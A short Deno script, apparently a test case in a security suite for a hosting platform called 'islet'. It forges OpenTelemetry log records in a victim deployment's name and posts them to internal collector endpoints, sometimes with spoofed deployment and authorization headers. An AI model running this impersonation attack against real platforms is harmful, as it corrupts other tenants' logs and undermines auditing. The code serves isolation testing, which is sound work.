// Posts telemetry to the platform's collector in the name of the victim.
// @answers ANYTHING
// @logs
const at = JSON.parse(Deno.env.get("ATTACK")!);

Deno.serve(async () => {
  const record = { timeUnixNano: `${Date.now()}000000`, severityNumber: 17, body: { stringValue: at.mark } };
  const names = ["deployment.id", "service.name", "islet.deployment", "deno.deployment_id", "service.instance.id"];
  const body = JSON.stringify({ resourceLogs: [{ resource: { attributes: names.map((key) => ({ key, value: { stringValue: at.victimDeployment } })) }, scopeLogs: [{ logRecords: [record] }] }] });
  for (const host of ["otel.islet.internal:4318", "127.0.0.1:4318", `${at.serverV4}:4318`]) {
    for (const headers of [{ "content-type": "application/json" }, { "content-type": "application/json", "x-islet-deployment": at.victimDeployment, authorization: `Bearer ${at.victimDeployment}` }]) {
      await fetch(`http://${host}/v1/logs`, { method: "POST", headers: headers as any, body, signal: AbortSignal.timeout(2000) }).catch(() => {});
    }
  }
  await new Promise((done) => setTimeout(done, 500));
  return new Response(`${at.name} was printed`);
});
